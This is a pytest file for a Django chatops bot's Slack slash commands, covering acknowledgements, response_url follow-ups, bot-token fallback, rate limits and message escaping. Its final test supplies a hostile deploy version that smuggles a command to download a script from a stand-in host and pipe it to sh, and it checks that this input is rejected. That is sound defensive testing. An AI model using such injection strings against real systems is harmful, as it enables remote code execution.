"""Slash commands over HTTP: the acknowledgement at once, follow-ups through response_url, then the bot token."""

from datetime import timedelta

import pytest
from django.utils import timezone

from bots.models import CommandRun, PostedMessage
from bots.platforms.slack.platform import SlackPlatform
from bots.registry import COMMANDS
from bots.types import Reply
from chatops_site.catalog.channels import ChannelAddress
from chatops_site.deploys.models import Deployment
from tests.slack.conftest import CHANNEL, TEAM
from tests.stubs import Answer

# One line per command of the engine; a command added later is still sent, bare.
LINES = {
    "help": "/help deploy",
    "whoami": "/whoami",
    "status": "/status web-app",
    "history": "/history web-app",
    "deploy": "/deploy web-app staging v1.2",
    "rollback": "/rollback web-app staging v1.1",
    "lock": "/lock api staging release freeze",
    "unlock": "/unlock api staging",
    "approve": "/approve 999",
    "reject": "/reject 999 not today",
}


@pytest.mark.parametrize("name", sorted(COMMANDS))
def test_every_command_is_answered_over_http_and_recorded_once(slack, name):
    line = LINES.get(name, f"/{name}")

    user = "bob" if name in ("lock", "unlock") else "alice"

    response = slack.command(line, user=user)

    assert response.status_code == 200
    assert response.json()["response_type"] in ("in_channel", "ephemeral")
    assert response.json()["blocks"][0]["type"] == "section"
    run = CommandRun.objects.get(command=name)
    assert (run.platform, run.workspace, run.channel, run.user.username) == ("slack", TEAM, CHANNEL, user)
    assert run.reply_handle.startswith(slack.api.url) and run.request_id


def test_the_ops_umbrella_runs_the_same_command(slack):
    response = slack.command("/ops deploy web-app dev")

    assert response.json()["response_type"] == "in_channel"
    assert Deployment.objects.get().target.environment.name == "dev"


@pytest.mark.parametrize(
    ("line", "user", "response_type"),
    [
        ("/deploy web-app staging", "alice", "in_channel"),
        ("/lock api staging freeze", "bob", "in_channel"),
        ("/help", "alice", "ephemeral"),
        ("/whoami", "alice", "ephemeral"),
        ("/deploy web-app staging", "carol", "ephemeral"),  # refused
        ("/deploy nope staging", "alice", "ephemeral"),  # invalid
    ],
)
def test_announcements_go_to_the_channel_the_rest_only_to_the_asker(slack, line, user, response_type):
    assert slack.command(line, user=user).json()["response_type"] == response_type


def test_a_refusal_says_why(slack):
    answer = slack.command("/deploy web-app staging", user="carol").json()

    assert answer["text"].startswith("carol may not deploy")
    assert not Deployment.objects.exists()


def test_an_unlinked_slack_user_is_told_how_to_get_linked(slack):
    answer = slack.command("/deploy web-app staging", user="U0STRANGER").json()

    assert answer["response_type"] == "ephemeral"
    assert "not linked" in answer["text"]


def test_a_deploy_follows_up_in_place_through_the_response_url(slack):
    response = slack.command("/deploy web-app staging v1.2")

    assert response.json()["text"].endswith("is queued")
    run = CommandRun.objects.get()
    sent = slack.api.responses[run.reply_handle.rsplit("/", 1)[1]]
    assert [m["text"].rsplit(" ", 1)[1] for m in sent] == ["dispatching", "running", "succeeded"]
    assert all(m["replace_original"] and m["response_type"] == "in_channel" for m in sent)
    fields = [f["text"] for f in sent[-1]["blocks"][1]["fields"]]
    assert "*Duration*\n0s" in fields and "*Artifact*\nregistry.local/web-app:v1.2" in fields


def test_the_acknowledgement_does_not_wait_for_a_slow_slack(slack):
    slack.api.delay = 2.0

    response = slack.command("/deploy web-app staging", run_tasks=False)

    assert response.status_code == 200 and response.json()["text"].endswith("is queued")
    assert slack.api.calls == []  # nothing was sent to Slack while it waited for the answer


def test_a_slow_slack_still_gets_the_follow_ups(slack):
    slack.api.delay = 0.3

    slack.command("/deploy web-app staging")

    assert len(slack.api.calls_to(r"/response/.*")) == 3


def _run(slack, line="/deploy web-app staging", **changes) -> CommandRun:
    slack.command(line, run_tasks=False)
    run = CommandRun.objects.get()
    CommandRun.objects.filter(pk=run.pk).update(**changes)
    run.refresh_from_db()
    return run


def test_an_expired_response_url_falls_back_to_the_bot_token(slack):
    run = _run(slack, received_at=timezone.now() - timedelta(minutes=31))

    SlackPlatform().send(run, Reply("done", public=True, key="deployment:1"))
    SlackPlatform().send(run, Reply("done, really", public=True, key="deployment:1"))

    assert slack.api.responses == {}
    assert [m["text"] for m in slack.api.channel_messages(CHANNEL)] == ["done, really"]
    assert len(slack.api.api_calls("chat.postMessage")) == 1 and len(slack.api.api_calls("chat.update")) == 1
    assert PostedMessage.objects.get().key == "deployment:1"


def test_a_private_follow_up_falls_back_to_an_ephemeral_message(slack):
    run = _run(slack, line="/whoami", received_at=timezone.now() - timedelta(minutes=31))

    SlackPlatform().send(run, Reply("only for you"))

    (sent,) = slack.api.api_calls("chat.postEphemeral")
    assert (sent["channel"], sent["user"], sent["text"]) == (CHANNEL, "U0ALICE", "only for you")
    assert slack.api.api_calls("chat.postMessage") == []


def test_after_five_uses_the_bot_token_takes_over(slack):
    run = _run(slack)

    for n in range(7):
        SlackPlatform().send(run, Reply(f"update {n}", public=True))

    assert len(slack.api.responses[run.reply_handle.rsplit("/", 1)[1]]) == 5
    assert [m["text"] for m in slack.api.channel_messages(CHANNEL)] == ["update 5", "update 6"]


def test_a_response_url_slack_refuses_is_not_used_again(slack):
    run = _run(slack)
    slack.api.expired.add(run.reply_handle.rsplit("/", 1)[1])

    SlackPlatform().send(run, Reply("first", public=True))
    SlackPlatform().send(run, Reply("second", public=True))

    assert len(slack.api.calls_to(r"/response/.*")) == 1
    assert [m["text"] for m in slack.api.channel_messages(CHANNEL)] == ["first", "second"]


def test_a_deferred_answer_is_acknowledged_then_followed_up_as_a_new_message(slack):
    run = _run(slack, line="/status")

    SlackPlatform().send(run, Reply("web-app\n  prod  v1", public=False))

    (sent,) = slack.api.responses[run.reply_handle.rsplit("/", 1)[1]]
    assert (sent["response_type"], sent["replace_original"]) == ("ephemeral", False)
    assert sent["blocks"][0]["text"]["text"] == "```web-app\n  prod  v1```"


def test_rate_limits_are_waited_out(slack):
    calls = {"n": 0}

    def limited(call):
        calls["n"] += 1
        if calls["n"] == 1:
            return Answer(429, {"ok": False, "error": "ratelimited"}, {"Retry-After": "0"})
        return {"ok": True, "channel": "C1", "ts": "1.1"}

    slack.api.route("POST", r"/api/chat[.]postMessage", limited)

    SlackPlatform().post(ChannelAddress("slack", "C1"), Reply("hello"))

    assert calls["n"] == 2


def test_a_deleted_channel_message_is_posted_again(slack):
    PostedMessage.objects.create(platform="slack", channel="C1", key="deployment:9", message_id="gone")

    SlackPlatform().post(ChannelAddress("slack", "C1"), Reply("news", key="deployment:9"))

    assert PostedMessage.objects.get().message_id != "gone"
    assert [m["text"] for m in slack.api.channel_messages("C1")] == ["news"]


def test_mrkdwn_control_characters_are_escaped(slack):
    SlackPlatform().post(
        ChannelAddress("slack", "C1"), Reply("<!channel> & co", links=[("Run", "https://ci.example.com/1")])
    )

    (message,) = slack.api.channel_messages("C1")
    assert message["blocks"][0]["text"]["text"] == "&lt;!channel&gt; &amp; co"
    assert message["blocks"][1]["elements"][0]["text"] == "<https://ci.example.com/1|Run>"


def test_a_hostile_version_is_refused_as_invalid_and_nothing_is_dispatched(slack):
    response = slack.command("/deploy web-app staging $(curl${IFS}evil.sh|sh);x")

    assert "is not a valid version" in response.json()["text"]
    assert CommandRun.objects.get().outcome == "invalid"
    assert not Deployment.objects.exists()
